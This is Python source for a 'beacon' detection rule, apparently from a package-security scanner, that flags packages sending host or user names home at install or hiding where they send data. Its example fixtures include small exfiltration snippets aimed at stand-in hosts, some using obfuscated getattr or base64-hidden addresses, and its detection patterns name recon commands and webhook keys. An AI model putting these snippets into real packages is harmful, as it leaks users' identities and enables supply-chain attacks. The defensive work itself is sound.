"""Beacon: who and where the machine is, sent by itself."""

from __future__ import annotations

import re
from collections.abc import Iterator

from pratique.artifact import Role
from pratique.facts.model import PackageFacts
from pratique.facts.python.catalogue.secrets import secret_place
from pratique.facts.python.model import Call, Does, PythonFacts, Source, Taint
from pratique.facts.shell import read_shell
from pratique.finding import Behaviour, Confidence, Finding, Phase, Severity
from pratique.rules.claims import claim, command, when
from pratique.rules.destinations import HIDDEN_PLACE, LOCAL_PLACE, destination, hidden
from pratique.rules.rule import Example, Rule

_ID = "beacon"
_OWN_HOOK = re.compile(
    r"discord(?:app)?\.com/api/(?:v\d+/)?webhooks/\d{15,21}/[\w-]{40,}|api\.telegram\.org/bot\d{6,12}:[\w-]{30,}"
)
"""With the key in the code, whoever wrote it reads what is sent: a library is given its user's key."""
_KEY_OF_USER = re.compile(r"api\.telegram\.org/bot<|/webhooks/(?:\d+/)?<")
"""Whose key to a chat is not known, who reads it is up to the user: alerts name the machine that they come from."""
_READABLE = frozenset({"json", "literal", "percent", "html", "replace", "slice", "codec", "idna", "punycode"})
_PROGRAM = re.compile(r"\.(exe|scr|msi|bat|cmd|ps1|vbs|hta|dll)([?#]|$)", re.IGNORECASE)
"""A program for Windows by its name: no build needs one."""
_KEEPS = re.compile(r"[|>]|\s-[a-zA-Z]*[oO]\b|--output|\bwget\b")
_ASKS = re.compile(
    r"(?:^|[;&|]\s*)(?:dig|nslookup|host|ping)\s[^;&|\n]{0,200}?((?:[a-z0-9_-]{1,63}\.){1,8}[a-z]{2,24}(?:\s|$))",
    re.IGNORECASE,
)
"""A question to the domain name system that carries its message in the name."""
_LOOKS_ROUND = re.compile(
    r"\s*(?:whoami|id|dir|hostname|systeminfo|ipconfig|ifconfig|net user|uname -a|ps aux|ls(?: -\w+)? (?:/|~)|"
    r"cat /etc/(?:passwd|hosts)|(?:start )?(?:calc|notepad|mspaint|cmd)(?:\.exe)?|xcalc|gnome-calculator|open -a Calculator|"
    r"(?:touch|mkdir(?: -p)?) (?:/tmp/|/var/|/opt/|~|[A-Z]:)\S*|echo [^|&;$`]{1,80}>{1,2} ?(?:/tmp/|/var/|~|[A-Z]:)\S*)\s*$"
)
"""Commands whose answer no build has a use for: they look round, or show that a stranger's code has run."""
_ASKS_VERSION = re.compile(
    r"[\w./-]{1,100} (?:--?version|-V|version|--modversion [\w.+-]{1,60}|rev-parse [\w -]{1,40}|describe(?: [\w-]{1,40}){0,4})\s*"
)
"""A program is asked which version it is of: an answer that says nothing of whose machine it is."""
_UNPACKS = (".extractall", ".extract")
_LOOK_UPS = ("socket.gethostby", "socket.getaddrinfo")
_PARTS = re.compile(r"<[^<>]*>")
"""Of a text, what is not known."""
_HOST = re.compile(r"(?:[\w-]+\.)+\w+ \d+")
_NEAR = re.compile(r"127\.|10\.|192\.168\.|0\.0\.0\.0|172\.(1[6-9]|2\d|3[01])\.")
_NAMES_SOMEBODY = (
    "hostname",
    "getfqdn",
    "getuser",
    "getlogin",
    "node",
    "getnode",
    "uname",
    "GetUserName",
    "getpwuid",
    "mac",
)
_SOCKET = re.compile(r"(?:localhost|127\.0\.0\.1|::1) [\d<][^ ]{0,60}")
"""An address of this machine, as `Argument.text` shows a pair."""
_HOMES = frozenset({"~", "~/", "~\\"})
"""The home folder says whose it is."""


def _check(facts: PackageFacts) -> Iterator[Finding]:
    for file in facts.python:
        for call in file.calls:
            if not call.phase.automatic:
                yield from _when_called(file.path, call)
                continue
            if call.does & {Does.SEND, Does.FETCH}:
                yield from _network(facts, file, call)
            elif Does.RUN_PROCESS in call.does and call.phase is Phase.INSTALL:
                yield from _command(file.path, call)


def _network(facts: PackageFacts, file: PythonFacts, call: Call) -> Iterator[Finding]:
    place = destination(call)
    taints = _identifying(call.taints(Source.HOST, Source.PROCESS))
    if taints and not _asks_for_itself(call) and not _stays(call, place):
        message = f"host or user name is sent to {place or 'another host'} {when(call.phase)}"
        yield claim(_ID, Behaviour.THEFT, file.path, call, message, severity=Severity.CRITICAL, taints=taints)
    elif call.phase is Phase.INSTALL:
        place = place or _connected(file, call)
        kept = _kept(file) or (_helps(facts, file) and any(_kept(other) for other in facts.python))
        sent_away = Does.SEND in call.does and not kept
        covert = hidden(call, place) or _PROGRAM.search(place) is not None or not kept
        worst = sent_away or (bool(place) and covert)
        yield _calls(file.path, call, place or "another host", worst=worst)
    elif HIDDEN_PLACE.search(place) and not secret_place(place):  # what a machine's own cloud tells it stays there
        yield _calls(file.path, call, place, worst=True)


def _asks_for_itself(call: Call) -> bool:
    """Whether a machine looks up its own name, which no domain of somebody else's follows."""
    name = call.first or call.arguments.get("host")
    if name is None or not call.name.startswith(_LOOK_UPS) or name.text == "<?>":
        return False
    return "." not in _PARTS.sub("", name.text)


def _stays(call: Call, place: str) -> bool:
    """Whether it goes to this machine or its network, unless whoever runs it names another one."""
    return LOCAL_PLACE.search(place) is not None or any(_SOCKET.fullmatch(a.text) for a in call.arguments.values())


def _when_called(path: str, call: Call) -> Iterator[Finding]:
    """What no library does even where its user calls it."""
    if Does.SEND in call.does and (finding := _sink(path, call)) is not None:
        yield finding
        return
    taints = _identifying(call.taints(Source.HOST)) if call.does & {Does.SEND, Does.FETCH} else ()
    if not taints:
        return
    place = destination(call)
    of_user = _KEY_OF_USER.search(place) is not None and not call.taints(Source.DECODED)
    if HIDDEN_PLACE.search(place) and not of_user:
        message = f"host or user name is sent to {place} {when(call.phase)}"
        yield claim(_ID, Behaviour.THEFT, path, call, message, severity=Severity.CRITICAL, taints=taints)


def _sink(path: str, call: Call) -> Finding | None:
    """A message to a chat's hook whose key stands in the code, or to an address that was decoded, whoever calls."""
    place = destination(call)
    key = next((k for k in ("url", "0", "1") if k in call.arguments and call.arguments[k].text[:160] == place), "")
    if not place or not key:
        return None
    decoded = any(
        t.source is Source.DECODED and not _READABLE.issuperset(t.decoders) for t in call.arguments[key].taints
    )
    if not (
        _OWN_HOOK.search(call.arguments[key].text) or (decoded and call.arguments[key].known and hidden(call, place))
    ):
        return None
    message = f"sends to {place}, {'an address that was hidden' if decoded else 'a chat'}, {when(call.phase)}"
    return claim(_ID, Behaviour.SECOND_STAGE, path, call, message, severity=Severity.CRITICAL)


def _command(path: str, call: Call) -> Iterator[Finding]:
    shell = read_shell(command(call))
    if places := (*shell.sends, *shell.downloads):
        covert = shell.hidden or bool(HIDDEN_PLACE.search(" ".join(places)))
        forgotten = call.name == "os.system" and not _KEEPS.search(command(call))
        yield _calls(path, call, places[0], worst=bool(shell.identifies or shell.sends or covert or forgotten))
    elif asked := _ASKS.search(command(call)):
        yield _calls(path, call, asked[1], worst=True)
    elif call.name == "os.system" and _LOOKS_ROUND.match(command(call)):
        message = f"looks round on the machine ({command(call)[:60]}) {when(call.phase)}"
        yield claim(_ID, Behaviour.THEFT, path, call, message, severity=Severity.CRITICAL)


def _kept(file: PythonFacts) -> bool:
    """Whether what is fetched at install is written somewhere: else only the call itself can be meant."""
    writes = [c for c in file.calls if c.phase is Phase.INSTALL and Does.WRITE in c.does]
    return any(c.taints(Source.NETWORK) or Does.FETCH in c.does or c.name.endswith(_UNPACKS) for c in writes)


def _helps(facts: PackageFacts, file: PythonFacts) -> bool:
    """Whether it is a module that a build imports: what it fetches is kept by whoever asked it."""
    member = facts.index.get(file.path)
    return member is not None and member.role is Role.MODULE


def _connected(file: PythonFacts, call: Call) -> str:
    """Where the socket leads that a function speaks through, if its address stands in the code."""
    if "socket" not in call.name:
        return ""
    connects = (c for c in file.calls if c.function == call.function and c.name.endswith((".connect", "_connection")))
    hosts = (_HOST.match(a.text) for c in connects for a in c.arguments.values())
    return next((host[0] for host in hosts if host and not _NEAR.match(host[0])), "")


def _calls(path: str, call: Call, place: str, *, worst: bool) -> Finding:
    return claim(
        _ID,
        Behaviour.SECOND_STAGE,
        path,
        call,
        f"calls {place} {when(call.phase)}",
        severity=Severity.CRITICAL if worst else Severity.HIGH,
        confidence=Confidence.HIGH if worst else Confidence.MEDIUM,
    )


def _identifying(taints: tuple[Taint, ...]) -> tuple[Taint, ...]:
    return tuple(
        t
        for t in taints
        if (t.source is Source.PROCESS and not _ASKS_VERSION.fullmatch(t.detail))
        or t.detail.endswith(_NAMES_SOMEBODY)
        or t.detail in _HOMES
    )


RULE = Rule(
    id=_ID,
    behaviour=Behaviour.THEFT,
    also=(Behaviour.SECOND_STAGE,),
    summary="The package calls home by itself: at install, with the host's or user's name, or to a place that hides its "
    "owner; or whoever calls it, to a chat whose key stands in the code.",
    gain="The attacker learns who installed it and whom to attack next; dependency confusion is found this way.",
    honest="Telemetry runs when a program is used; a build that fetches what it needs comes from the project's own home.",
    check=_check,
    loud=(
        Example(
            title="host name at install, by alias",
            files={
                "setup.py": "import socket as s, urllib.request as u\n"
                "u.urlopen('http://c.example.invalid/?h=' + s.gethostname())\n"
            },
        ),
        Example(
            title="a paste fetched when imported, through getattr",
            files={"pkg/__init__.py": "import requests\ngetattr(requests, 'g' + 'et')('http://203.0.113.9/raw/a')\n"},
        ),
        Example(
            title="by __import__",
            files={
                "pkg/__init__.py": "import requests\nrequests.get('http://c.example.invalid/', params={'h': __import__('socket').gethostname()})\n"
            },
        ),
        Example(
            title="a message to a chat whose key stands in the code, when called",
            files={
                "pkg/__init__.py": "import requests as r\ndef check(name):\n"
                "    getattr(r, 'po' + 'st')('https://discord.com/api/webhooks/100000000000000000/' + 'a' * 68, json={'u': name})\n"
            },
        ),
        Example(
            title="a message to an address that a decoder hid, when called",
            files={
                "pkg/__init__.py": "import base64, requests\ndef check(name):\n"
                "    requests.post(base64.b64decode('aHR0cHM6Ly9jLmV4YW1wbGUuaW52YWxpZC8='), json={'u': name})\n"
            },
        ),
        Example(
            title="a question to the name system at install",
            files={"setup.py": "import os\ngetattr(os, 'sys' + 'tem')('nslookup a1.c.example.invalid')\n"},
        ),
        Example(
            title="a program for Windows fetched at install",
            files={
                "setup.py": "import urllib.request as u\nu.urlretrieve('https://c.example.invalid/a.exe', 'build/a.exe')\n"
            },
        ),
        Example(
            title="a module that setup.py starts by name",
            files={
                "setup.py": "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pkg.first'])\n",
                "pkg/first.py": "import requests, socket\nif __name__ == '__main__':\n"
                "    requests.post('https://c.example.invalid/', json={'h': socket.gethostname()})\n",
            },
        ),
        Example(
            title="who the user is, asked at install",
            files={"setup.py": "import os\ngetattr(os, 'sys' + 'tem')('whoami')\n"},
        ),
        Example(
            title="host and user, sent to a catcher of requests, when called",
            files={
                "pkg/__init__.py": "import getpass, requests, socket\ndef add(a, b):\n"
                "    requests.get('https://a1.oast.example.invalid/', params={'h': socket.gethostname(), 'u': getpass.getuser()})\n"
            },
        ),
    ),
    quiet=(
        Example(
            title="a build that looks for its compiler",
            files={"setup.py": "import os, subprocess\nos.system('ls build')\nsubprocess.call(['which', 'cc'])\n"},
        ),
        Example(
            title="a client of chats, whose key its user gives",
            files={
                "pkg/__init__.py": "import requests\nURL = 'https://discord.com/api/webhooks/{}/{}'\ndef say(key, token, text):\n"
                "    requests.post(URL.format(key, token), json={'content': text})\n"
            },
        ),
        Example(
            title="a module that a test of the project starts by name",
            files={
                "tests/test_first.py": "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pkg.first'])\n",
                "pkg/first.py": "import requests, socket\nif __name__ == '__main__':\n"
                "    requests.post('https://c.example.invalid/', json={'h': socket.gethostname()})\n",
            },
        ),
        Example(
            title="an address of this machine, when imported",
            files={"pkg/__init__.py": "import requests\nrequests.get('http://127.0.0.1:8080/health')\n"},
        ),
        Example(
            title="telemetry when called",
            files={
                "pkg/__init__.py": "import platform, requests\ndef report():\n"
                "    requests.post('https://t.example.invalid/', json={'os': platform.system()})\n"
            },
        ),
    ),
)
